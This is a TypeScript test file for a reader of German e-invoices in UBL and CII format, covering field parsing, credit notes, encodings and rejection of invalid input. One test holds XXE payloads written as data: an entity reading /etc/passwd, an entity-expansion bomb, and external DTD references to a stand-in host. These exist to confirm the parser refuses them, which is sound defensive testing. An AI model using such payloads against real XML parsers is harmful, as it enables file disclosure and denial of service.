import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { toText } from '../../../begriffe/dezimal.ts';
import { readRechnung } from './rechnung.reader.ts';
import { checkRechnung, isGutschrift } from './rechnung.rules.ts';
import type { Rechnung } from './rechnung.types.ts';

function beispiel(name: string): string {
  return readFileSync(new URL(`./beispiele/${name}.xml`, import.meta.url), 'utf8');
}

function read(xml: string | Uint8Array): Rechnung {
  const ergebnis = readRechnung(typeof xml === 'string' ? Buffer.from(xml) : xml);
  assert.ok(ergebnis.ok, ergebnis.ok ? '' : ergebnis.grund);
  return ergebnis.wert;
}

function grund(bytes: string | Uint8Array): string | undefined {
  const ergebnis = readRechnung(typeof bytes === 'string' ? Buffer.from(bytes) : bytes);
  return ergebnis.ok ? undefined : ergebnis.grund;
}

test('UBL and CII of the same invoice become the same typed invoice', () => {
  const { syntax: ubl, ...ausUbl } = read(beispiel('kursrechnung-ubl'));
  const { syntax: cii, ...ausCii } = read(beispiel('kursrechnung-cii'));
  assert.equal(ubl, 'ubl');
  assert.equal(cii, 'cii');
  assert.deepEqual(ausUbl, ausCii);
});

test('reads every field the office compares', () => {
  const rechnung = read(beispiel('kursrechnung-ubl'));
  assert.equal(rechnung.nummer, 'SK-2024-031');
  assert.equal(rechnung.datum, '2024-04-05');
  assert.equal(rechnung.faelligAm, '2024-05-05');
  assert.equal(rechnung.leitwegId, '03357-12345-42');
  assert.equal(rechnung.vertrag, 'BEW-2024-9');
  assert.deepEqual(rechnung.leistung, { am: null, von: '2024-03-01', bis: '2024-03-31' });
  assert.equal(rechnung.verkaeufer.name, 'Volkshochschule Musterkreis e. V.');
  assert.equal(rechnung.verkaeufer.steuernummer, '40/123/45678');
  assert.equal(rechnung.zahlungswege[0]?.konto, 'DE89370400440532013000');
  const [, , lehrwerke, raum] = rechnung.positionen;
  assert.ok(lehrwerke?.preis && raum?.basismenge && raum.netto);
  assert.equal(toText(lehrwerke.preis), '23.3645');
  assert.equal(toText(raum.basismenge), '366');
  assert.equal(toText(raum.netto), '37.74');
  assert.equal(raum.einheit, 'DAY');
  assert.equal(raum.zuAbschlaege[0]?.grund, 'Reinigung');
});

test('a credit note is one, and names the invoice it corrects', () => {
  const gutschrift = read(beispiel('gutschrift-ubl'));
  assert.ok(isGutschrift(gutschrift));
  assert.deepEqual(gutschrift.vorgaenger, ['SK-2024-031']);
  assert.equal(gutschrift.positionen.length, 1);
  assert.ok(!isGutschrift(read(beispiel('kursrechnung-cii'))));
});

test('invoices in order raise no hint', () => {
  for (const name of ['kursrechnung-ubl', 'kursrechnung-cii', 'gutschrift-ubl']) {
    assert.deepEqual(checkRechnung(read(beispiel(name))), [], name);
  }
});

test('dates with a time zone, prefixes of any kind and other encodings read alike', () => {
  const ubl = beispiel('kursrechnung-ubl');
  const mitZone = ubl.replace('<cbc:IssueDate>2024-04-05', '<cbc:IssueDate>2024-04-05+01:00');
  assert.equal(read(mitZone).datum, '2024-04-05');
  const andereVorsilbe = ubl.replaceAll('cbc:', 'x:').replace('xmlns:cbc', 'xmlns:x');
  assert.equal(read(andereVorsilbe).nummer, 'SK-2024-031');
  const latin1 = Buffer.from(ubl.replace('UTF-8', 'ISO-8859-1'), 'latin1');
  assert.deepEqual(read(latin1).bemerkungen, ['Sprachkurs A1, März 2024']);
  const utf16 = Buffer.from(`\ufeff${ubl.replace('UTF-8', 'UTF-16')}`, 'utf16le');
  assert.deepEqual(read(utf16).bemerkungen, ['Sprachkurs A1, März 2024']);
});

test('the tax total in the currency of the invoice counts, not that of accounting', () => {
  const zweiteWaehrung =
    '<cac:TaxTotal><cbc:TaxAmount currencyID="GBP">27.00</cbc:TaxAmount></cac:TaxTotal><cac:TaxTotal>';
  const ubl = beispiel('kursrechnung-ubl').replace('<cac:TaxTotal>', zweiteWaehrung);
  assert.deepEqual(checkRechnung(read(ubl)), []);
  const cii = beispiel('kursrechnung-cii').replace(
    '<ram:TaxTotalAmount',
    '<ram:TaxTotalAmount currencyID="GBP">27.00</ram:TaxTotalAmount><ram:TaxTotalAmount',
  );
  assert.deepEqual(checkRechnung(read(cii)), []);
});

test('unreadable fields are named, and not reported as missing too', () => {
  const ubl = beispiel('kursrechnung-ubl')
    .replace('>3801.16<', '>3.801,16<')
    .replace('>2024-04-05<', '>05.04.2024<')
    .replace('>62.5<', '>zweiundsechzig<');
  assert.deepEqual(
    checkRechnung(read(ubl)).map(({ regel, stelle, position }) => [regel, stelle, position]),
    [
      ['datum', 'BT-2', undefined],
      ['zahl', 'BT-115', undefined],
      ['zahl', 'BT-129', '2'],
    ],
  );
});

test('amounts beyond reason are unreadable', () => {
  const ubl = beispiel('kursrechnung-ubl').replace('>3801.16<', `>${'9'.repeat(20)}.00<`);
  assert.equal(read(ubl).summen.zahlbetrag, null);
});

test('entities are refused before they are declared', () => {
  const rumpf = beispiel('kursrechnung-ubl').replace(/^<\?xml[^>]*>\n/, '');
  const angriffe = [
    '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE Invoice [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE Invoice SYSTEM "http://angriff.example/x.dtd">',
    '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://angriff.example/p"> %p;]>',
  ];
  for (const angriff of angriffe) {
    const xml = `<?xml version="1.0"?>\n${angriff}\n${rumpf.replace('SK-2024-031', '&x;')}`;
    assert.equal(grund(xml), 'rechnung.dtd', angriff);
  }
  const utf16 = Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${angriffe[0]}${rumpf}`, 'utf16le');
  assert.equal(grund(utf16), 'rechnung.dtd');
});

test('what is no e-invoice is refused with its reason', () => {
  assert.equal(grund(''), 'rechnung.leer');
  assert.equal(grund('Sehr geehrte Damen und Herren'), 'rechnung.kein-xml');
  assert.equal(grund(beispiel('kursrechnung-ubl').slice(0, 3000)), 'rechnung.kein-xml');
  assert.equal(
    grund('<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>'),
    'rechnung.keine-rechnung',
  );
  assert.equal(grund('<Invoice/>'), 'rechnung.keine-rechnung');
  assert.equal(
    grund('<r:CrossIndustryDocument xmlns:r="urn:ferd:CrossIndustryDocument:invoice:1p0"/>'),
    'rechnung.zugferd-1',
  );
  assert.equal(grund(new Uint8Array(21 * 1024 * 1024)), 'rechnung.zu-gross');
});

test('a large attachment does no harm', () => {
  const anhang = `<cac:AdditionalDocumentReference><cac:Attachment><cbc:EmbeddedDocumentBinaryObject>${'QUJD'.repeat(
    3_000_000,
  )}</cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference><cac:AccountingSupplierParty>`;
  const ubl = beispiel('kursrechnung-ubl').replace('<cac:AccountingSupplierParty>', anhang);
  assert.deepEqual(checkRechnung(read(ubl)), []);
});
